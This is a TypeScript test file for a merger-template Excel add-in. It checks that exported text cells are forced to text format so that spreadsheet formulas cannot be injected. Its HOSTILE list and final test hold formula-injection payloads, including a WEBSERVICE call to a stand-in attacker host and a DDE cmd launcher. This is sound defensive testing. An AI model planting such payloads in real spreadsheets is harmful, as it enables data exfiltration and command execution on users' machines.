/**
 * Text is written as text, through Microsoft's own Excel client (test/contract/real-excel.ts):
 * whatever the source of a text cell (a label, a user's input, what a MERGER.* formula showed,
 * a cell its array spilled into), the builder and "Copy as values" give it the text number format
 * ("@") in the request that writes its value, before the value, so Excel never enters it as a
 * formula. The copy is what counsel and banks receive: it must hold no formula a template's text
 * could smuggle in (a `=WEBSERVICE(…)`, a DDE `+cmd|…`).
 */
import { parseCell } from "../../src/plan/a1";
import { layout, parseTemplate } from "../../src/templates";
import type { Plan } from "../../src/plan/plan";
import { buildWorksheet, copyAsValues } from "../../src/workbook";
import { RealExcel } from "./real-excel";

const STAMP = { date: "2026-11-25", version: "1.2.3" };

/** Texts Excel (or a spreadsheet reading the copy) could enter as a formula in a General cell. */
const HOSTILE: [string, string][] = [
  ["=", '=WEBSERVICE("http://evil.example/")'],
  ["+ (DDE)", "+cmd|' /C calc'!A0"],
  ["-", "-2+3"],
  ["@", "@SUM(1)"],
  ["full-width ＝", '＝WEBSERVICE("http://evil.example/")'],
  ["a leading tab", "\t=1+1"],
  ["a leading CR", "\r=1+1"],
];

/** A template whose formula shows text; the formula itself is harmless, its shown value is not. */
const template = parseTemplate({
  format: "merger-template",
  version: 1,
  id: "shows-text",
  title: { en: "Shows text", ja: "文字列を表示" },
  description: { en: "A MERGER formula that shows text.", ja: "文字列を表示する MERGER 関数。" },
  sheetName: { en: "Shows text", ja: "文字列" },
  inputs: [{ id: "company", name: "Company", kind: "text", label: { en: "Company", ja: "会社" } }],
  sections: [
    {
      kind: "rows",
      id: "main",
      title: { en: "Main", ja: "本体" },
      rows: [
        { label: { en: "Company", ja: "会社" }, cells: [{ input: "company" }] },
        { label: { en: "Shown", ja: "表示" }, cells: [{ formula: '=IF(MERGER.ODD_LOT(1)=1,"x","")' }] },
        { label: { en: "Sum", ja: "合計" }, cells: [{ formula: "=1+1", format: "#,##0" }] },
      ],
    },
  ],
});

/** The plan as a template accepted before the checks looked inside strings would have given it. */
function planShowing(text: string): { plan: Plan; formulaAt: [number, number] } {
  const plan = layout(template, { company: "Acme" }, { language: "en" });
  for (const block of plan.blocks) {
    block.cells.forEach((row, r) =>
      row.forEach((cell, c) => {
        if (cell && "formula" in cell && cell.formula.includes("MERGER.ODD_LOT"))
          row[c] = { formula: `=IF(MERGER.ODD_LOT(1)=1,"${text.replace(/"/g, '""')}","")` };
        // A label in a General cell, as a plan from elsewhere may have it: the writer decides, not the plan.
        if (cell && "text" in cell && cell.text === "Sum") {
          row[c] = { text };
          block.numberFormats[r]![c] = "General";
        }
      }),
    );
  }
  const formulaAt = plan.blocks
    .flatMap((block) => {
      const origin = parseCell(block.address)!;
      return block.cells.flatMap((row, r) =>
        row.flatMap((cell, c) =>
          cell && "formula" in cell && cell.formula.includes("MERGER")
            ? [[origin.row + r, origin.column + c] as [number, number]]
            : [],
        ),
      );
    })
    .at(0)!;
  return { plan, formulaAt };
}

/** Every request that writes values sets the number format of that range first, in the same request. */
function formatBeforeValues(excel: RealExcel): void {
  for (const request of excel.requests) {
    const values = request.calls.indexOf("Range.values");
    if (values < 0) continue;
    const format = request.calls.indexOf("Range.numberFormat");
    expect(format).toBeGreaterThanOrEqual(0);
    expect(format).toBeLessThan(values);
  }
}

describe.each(HOSTILE)("text starting with %s stays text", (_, text) => {
  test("in a copy as values: what a MERGER.* formula showed, and what its array spilled into", async () => {
    const { plan, formulaAt } = planShowing(text);
    const [row, column] = formulaAt;
    // What Excel shows: the formula's text, and (as if it spilled) the same text to its right.
    const shown: (string | number | null)[][] = Array.from({ length: row + 1 }, () => []);
    shown[row]![column] = text;
    shown[row]![column + 1] = text;
    const excel = new RealExcel({ sheets: ["Data"] });
    const copy = await copyAsValues(excel.run, plan, { shown }, STAMP);

    const cells = excel.book.sheetState(copy.sheetName).cells;
    const copied = [cells.get(`${row},${column}`), cells.get(`${row},${column + 1}`)];
    for (const cell of copied) {
      expect(cell).toMatchObject({ value: text, numberFormat: "@" });
      expect(cell!.formula).toBeUndefined();
    }
    // No formula in the copy reaches outside, or is anything but the plan's own arithmetic.
    const formulas = [...cells.values()].flatMap((c) => (c.formula ? [c.formula] : []));
    expect(formulas).toEqual(["=1+1"]);
    formatBeforeValues(excel);
  });

  test("in a built sheet: a label the plan gave a General format", async () => {
    const { plan } = planShowing(text);
    const excel = new RealExcel({ sheets: ["Data"] });
    const built = await buildWorksheet(excel.run, plan);
    const cells = [...excel.book.sheetState(built.sheetName).cells.values()];
    const label = cells.filter((c) => c.value === text);
    expect(label).toHaveLength(1);
    expect(label[0]).toMatchObject({ value: text, numberFormat: "@" });
    expect(cells.filter((c) => c.formula && !/MERGER\.ODD_LOT|^=1\+1$/.test(c.formula))).toEqual([]);
    formatBeforeValues(excel);
  });
});

test("the template of a formula-looking string literal copies as its text, never as =WEBSERVICE", async () => {
  const formula = '=IF(MERGER.ODD_LOT(1)=1,"=WEBSERVICE(""http://evil.example/"")","")';
  const { plan, formulaAt } = planShowing('=WEBSERVICE("http://evil.example/")');
  const formulas = plan.blocks.flatMap((b) => b.cells.flat()).flatMap((c) => (c && "formula" in c ? [c.formula] : []));
  expect(formulas).toContain(formula);
  const [row, column] = formulaAt;
  const shown: string[][] = Array.from({ length: row + 1 }, () => []);
  shown[row]![column] = '=WEBSERVICE("http://evil.example/")';
  const excel = new RealExcel({ sheets: ["Data"] });
  const copy = await copyAsValues(excel.run, plan, { shown }, STAMP);
  const cells = [...excel.book.sheetState(copy.sheetName).cells.values()];
  expect(cells.some((c) => /WEBSERVICE/i.test(c.formula ?? ""))).toBe(false);
  expect(cells.filter((c) => c.value === '=WEBSERVICE("http://evil.example/")')).toEqual([
    expect.objectContaining({ numberFormat: "@" }),
  ]);
});
